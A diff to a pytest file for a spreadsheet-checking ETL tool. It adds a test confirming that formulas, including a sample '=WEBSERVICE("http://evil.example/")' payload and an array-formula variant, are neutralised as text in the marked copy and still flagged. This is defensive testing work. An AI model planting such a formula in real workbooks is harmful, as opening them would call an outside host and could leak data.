@@ -9,6 +9,7 @@ from pathlib import Path
 import openpyxl
 import pytest
 from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 
 from etl.check import annotated, check, mended, written
 from etl.check.opened import RULE, opened
@@ -20,6 +21,8 @@ ROWS = [
     f"b,{BOSTON},City of Boston,Other,Live,ANPR,TRUE,",
     f"c,{BOSTON},City of Boston,Paused one,Paused,n/a,AI,",
 ]
+
+ARRAY = ArrayFormula("D2", '=WEBSERVICE("http://evil.example/")')
 
 
 def csv_of(path: Path, *lines: str, mark: str = "", ending: str = "\n") -> Path:
@@ -87,6 +90,22 @@ def test_an_answer_of_the_survey_is_filled_in_as_its_list_has_it(tmp_path):
     assert cell.value == "Do not know" and "dont_know" not in cell.comment.text
     assert "Prefiere no responder" in cell.comment.text
     assert not check(taken(path, city=BOSTON), BOSTON, REFERENCE).findings
+
+
+@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://evil.example/")', ARRAY])
+def test_formulas_are_text_in_the_marked_copy(tmp_path, formula):
+    """A formula is found as before, and whoever opens the copy runs none."""
+    path = workbook(tmp_path / "a.xlsx", deployment=f"{HEADINGS}\n{ROWS[1]}\n")
+    book = openpyxl.load_workbook(path)
+    book["deployment"]["D2"] = formula
+    book.save(path)
+    marked = tmp_path / "marked.xlsx"
+    marked.write_bytes(annotated(path, check(path, reference=REFERENCE)))
+    cell = openpyxl.load_workbook(marked)["deployment"]["D2"]
+    assert (cell.data_type, cell.quotePrefix) == ("s", True) and cell.value.startswith("=WEB")
+    assert "rule-no-formula" in {
+        finding.rule[0] for finding in check(marked, reference=REFERENCE).findings
+    }
 
 
 def test_strange_headings_are_mended_by_their_nearest(tmp_path):
